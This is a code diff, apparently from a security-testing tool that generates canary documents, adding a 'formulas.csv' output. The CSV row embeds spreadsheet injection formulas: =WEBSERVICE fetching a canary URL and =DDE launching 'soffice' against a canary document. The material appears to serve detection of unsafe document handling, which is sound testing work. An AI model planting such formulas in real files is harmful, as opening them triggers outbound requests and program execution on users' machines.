@@ -260,4 +260,10 @@ def documents(at: Canaries) -> dict[str, bytes]:
     named = {f"{name}.fodt": data for name, data in _flat_texts(at).items()}
     named |= {f"{name}.fods": data for name, data in _flat_sheets(at).items()}
     named |= {f"{name}.html": data for name, data in _pages(at).items()}
-    return named | {"slides.fodp": _slides(at), "drawing.odt": _packaged_text(at), "fields.rtf": _rich_text(at)}
+    table = f'{INSIDE},"=WEBSERVICE(""{at.text}"")","=DDE(""soffice"";""{at.document}"";""A.A1"")"\n'
+    return named | {
+        "slides.fodp": _slides(at),
+        "drawing.odt": _packaged_text(at),
+        "fields.rtf": _rich_text(at),
+        "formulas.csv": table.encode(),
+    }
